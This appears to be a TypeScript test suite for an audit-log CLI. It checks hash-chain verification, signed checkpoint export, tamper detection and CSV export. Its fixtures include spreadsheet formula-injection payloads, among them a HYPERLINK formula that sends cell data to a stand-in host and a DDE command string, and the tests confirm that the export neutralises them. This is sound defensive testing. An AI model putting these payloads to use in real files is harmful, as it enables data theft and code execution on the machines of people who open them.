import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { trustedKeys, verifyExportedCheckpoint } from '../../src/audit/checkpoint.js';
import { audit, type CheckpointExportFile } from '../../src/cli/audit.js';
import type { CliIO } from '../../src/cli/io.js';
import { UsageError } from '../../src/cli/io.js';
import { parseConfig } from '../../src/config/config.js';
import { manualClock } from '../../src/kernel/clock.js';
import { createLogger } from '../../src/logging.js';
import { buildRuntime } from '../../src/main.js';
import { openDatabase } from '../../src/store/database.js';
import { createScratchPostgres, postgresUrl } from '../support/databases.js';
import { TEST_SECRETS } from '../support/runtime.js';

interface Captured extends CliIO {
  readonly stdout: string[];
  readonly stderr: string[];
}
function capture(interactive = false): Captured {
  const stdout: string[] = [];
  const stderr: string[] = [];
  return { stdout, stderr, interactive, out: (l) => stdout.push(l), err: (l) => stderr.push(l) };
}
const lastJson = (io: Captured) => JSON.parse(io.stdout[io.stdout.length - 1]!) as Record<string, unknown>;

/** RFC 4180 cells, enough to look at every cell a spreadsheet would see. */
function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (quoted) cell += c;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

// Fixture entries are dated in the past so the CLI's own entries (real clock) follow them in time.
const DAY0 = new Date('2025-06-01T00:00:00Z');
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1'];

interface Engine {
  readonly name: string;
  open(): Promise<{ env: Record<string, string>; location: Parameters<typeof openDatabase>[0]; dispose(): Promise<void> }>;
}
const ENGINES: Engine[] = [
  {
    name: 'pglite',
    async open() {
      const dir = mkdtempSync(join(tmpdir(), 'clubos-audit-cli-'));
      return { env: { DATABASE_URL: '', DATA_DIR: dir }, location: { kind: 'pglite', dir }, dispose: async () => rmSync(dir, { recursive: true, force: true }) };
    },
  },
];
if (postgresUrl) {
  const adminUrl = postgresUrl;
  ENGINES.push({
    name: 'postgres',
    async open() {
      const scratch = await createScratchPostgres(adminUrl);
      const dir = mkdtempSync(join(tmpdir(), 'clubos-audit-cli-'));
      return {
        env: { DATABASE_URL: scratch.url, DATA_DIR: dir },
        location: { kind: 'postgres', url: scratch.url },
        dispose: async () => {
          await scratch.drop();
          rmSync(dir, { recursive: true, force: true });
        },
      };
    },
  });
}

for (const engine of ENGINES) {
  describe(`clubos audit on ${engine.name}`, { timeout: 300_000 }, () => {
    let db: Awaited<ReturnType<Engine['open']>>;
    let outDir: string;

    beforeAll(async () => {
      db = await engine.open();
      outDir = mkdtempSync(join(tmpdir(), 'clubos-audit-out-'));
      const env = { LOG_LEVEL: 'silent', ...TEST_SECRETS, ...db.env };
      for (const [k, v] of Object.entries(env)) vi.stubEnv(k, v);
      // Seed the log through the real runtime: 8 entries, a checkpoint (its record is seq 9), 2 more.
      const clock = manualClock(DAY0);
      const rt = await buildRuntime(parseConfig(process.env), { clock, logger: createLogger('silent') });
      try {
        for (let i = 0; i < 8; i++) {
          clock.advance(60_000);
          await rt.audit.record({
            action: 'config.changed',
            actor: { type: 'operator', id: HOSTILE[i % HOSTILE.length]! },
            resource: { type: 'setting', id: HOSTILE[(i + 1) % HOSTILE.length]! },
            location: HOSTILE[(i + 2) % HOSTILE.length]!,
            correlationId: HOSTILE[(i + 3) % HOSTILE.length]!,
            body: { n: i, note: HOSTILE[(i + 4) % HOSTILE.length]! },
          });
        }
        expect((await rt.audit.checkpoint()).kind).toBe('created');
        clock.advance(60_000);
        await rt.audit.record({ action: 'flag.changed', actor: { type: 'system', id: 'seed' }, body: { flag: 'auto_execute', to: true } });
        await rt.audit.record({ action: 'auth.login_failed', actor: { type: 'operator', id: 'op_2' }, body: { reason: 'bad_password' } });
      } finally {
        await rt.close();
      }
    });
    afterAll(async () => {
      vi.unstubAllEnvs();
      await db.dispose();
      rmSync(outDir, { recursive: true, force: true });
    });

    it('verify prints "verified up to N (signed through M) at T" and exits 0', async () => {
      const io = capture();
      expect(await audit(['verify'], io)).toBe(0);
      expect(io.stdout[0]).toMatch(/^verified up to 11 \(signed through 8\) at \d{4}-\d\d-\d\dT/);
      expect(io.stderr).toEqual([]);
    });

    it('verify --json ends with exactly one JSON object; on a terminal, progress goes to stderr only', async () => {
      const io = capture(true);
      expect(await audit(['verify', '--json'], io)).toBe(0);
      expect(io.stdout).toHaveLength(1);
      expect(lastJson(io)).toMatchObject({ ok: true, verified_through: 11, signed_through: 8, entries: 11, checkpoints: 1 });
      expect(io.stderr[0]).toBe('verifying audit entries 1..11 and their checkpoints…');
    });

    it('exports entries as CSV where no cell can run as a spreadsheet formula, and audits the export', async () => {
      const file = join(outDir, 'entries.csv');
      const io = capture();
      const args = ['export', '--from', '2025-06-01T00:00:00Z', '--to', '2025-06-02T00:00:00Z', '--format', 'csv', '--out', file, '--json'];
      expect(await audit(args, io)).toBe(0);
      expect(lastJson(io)).toEqual({ ok: true, kind: 'entries', format: 'csv', count: 11, out: file });
      const rows = csvCells(readFileSync(file, 'utf8'));
      expect(rows[0]).toEqual(['seq', 'at', 'actor_type', 'actor_id', 'action', 'resource_type', 'resource_id', 'location', 'correlation_id', 'body', 'prev_hash', 'hash']);
      expect(rows).toHaveLength(12);
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(rows[1]!.slice(3, 9)).toEqual([`'${HOSTILE[0]}`, 'config.changed', 'setting', `'${HOSTILE[1]}`, `'${HOSTILE[2]}`, `'${HOSTILE[3]}`]);

      // The export is in the log now (real clock, so after the fixture's day).
      const json = capture();
      expect(await audit(['export', '--from', '2025-06-02T00:00:00Z', '--to', new Date(Date.now() + 86_400_000).toISOString()], json)).toBe(0);
      const doc = lastJson(json) as { format: string; entries: { action: string; actor: { id: string }; body: unknown }[] };
      expect(doc.format).toBe('clubos.audit.entries.v1');
      expect(doc.entries.map((e) => e.action)).toEqual(['data.exported']);
      expect(doc.entries[0]!.actor.id).toMatch(/^cli:/);
      expect(doc.entries[0]!.body).toMatchObject({ kind: 'entries', format: 'csv', count: 11 });
    });

    it('exports the compliance report as one JSON line with its verification status', async () => {
      const io = capture();
      expect(await audit(['export', '--report', '--from', '2025-06-01', '--to', '2025-06-02'], io)).toBe(0);
      expect(io.stdout).toHaveLength(1);
      expect(lastJson(io)).toMatchObject({
        format: 'clubos.audit.report.v1',
        entries: 11,
        failedLogins: { total: 1, byReason: { bad_password: 1 } },
        verification: { ok: true, verifiedThrough: 13 },
      });
    });

    it('signs a checkpoint on demand and exports checkpoints an outsider verifies with the public key alone', async () => {
      const io = capture();
      expect(await audit(['checkpoint', '--json'], io)).toBe(0);
      expect(lastJson(io)).toMatchObject({ outcome: 'created', from_seq: 9, to_seq: 14 });

      const file = join(outDir, 'checkpoints.json');
      const out = capture();
      expect(await audit(['checkpoints', '--out', file], out)).toBe(0);
      expect(out.stdout[0]).toBe(`exported 2 signed checkpoints (through seq 14) to ${file}`);
      const doc = JSON.parse(readFileSync(file, 'utf8')) as CheckpointExportFile;
      expect(doc.checkpoints.map((c) => [c.checkpoint.fromSeq, c.checkpoint.toSeq])).toEqual([
        [1, 8],
        [9, 14],
      ]);
      const keys = trustedKeys([doc.publicKey]);
      expect(doc.checkpoints.map((c) => verifyExportedCheckpoint(c, keys))).toEqual(['valid', 'valid']);
      // A checkpoint whose range was rewritten no longer matches its signature.
      const forged = { ...doc.checkpoints[0]!, checkpoint: { ...doc.checkpoints[0]!.checkpoint, toSeq: 7, treeSize: 7 } };
      expect(verifyExportedCheckpoint(forged, keys)).toBe('bad_signature');
    });

    it('refuses bad usage before touching the database', async () => {
      await expect(audit(['export', '--to', '2025-06-02'], capture())).rejects.toThrow(/--from/);
      await expect(audit(['export', '--from', '2025-06-02', '--to', '2025-06-01'], capture())).rejects.toThrow(/before --to/);
      await expect(audit(['export', '--from', 'yesterday', '--to', '2025-06-01'], capture())).rejects.toThrow(UsageError);
      await expect(audit(['export', '--from', '2025-06-01', '--to', '2025-06-02', '--format', 'xlsx'], capture())).rejects.toThrow(/json or csv/);
      await expect(audit(['checkpoints'], capture())).rejects.toThrow(/--out/);
      await expect(audit(['rewrite'], capture())).rejects.toThrow(UsageError);
    });

    it('exits 1 naming the first bad seq when a row was edited behind the append-only trigger', async () => {
      const database = await openDatabase(db.location);
      try {
        await database.exclusive(async (r) => {
          await r.exec('alter table compliance_log disable trigger compliance_log_append_only');
          await r.exec(`update compliance_log set body = jsonb_set(body, '{n}', '999') where seq = 5`);
          await r.exec('alter table compliance_log enable trigger compliance_log_append_only');
        });
      } finally {
        await database.close();
      }
      const io = capture();
      expect(await audit(['verify', '--json'], io)).toBe(1);
      expect(lastJson(io)).toMatchObject({ ok: false, first_bad_seq: 5, reason: 'hash_mismatch', verified_through: 4 });
      const human = capture();
      expect(await audit(['verify'], human)).toBe(1);
      expect(human.stdout[0]).toBe('audit chain FAILED verification at seq 5: hash_mismatch');
    });

    it('refuses to sign an unsigned tail that does not verify, and exits 1', async () => {
      const database = await openDatabase(db.location);
      try {
        await database.exclusive(async (r) => {
          await r.exec('alter table compliance_log disable trigger compliance_log_append_only');
          await r.exec(`update compliance_log set actor_id = 'mallory' where seq = 16`);
          await r.exec('alter table compliance_log enable trigger compliance_log_append_only');
        });
      } finally {
        await database.close();
      }
      const io = capture();
      expect(await audit(['checkpoint', '--json'], io)).toBe(1);
      expect(lastJson(io)).toEqual({ outcome: 'refused', first_bad_seq: 16, reason: 'hash_mismatch' });
    });
  });
}
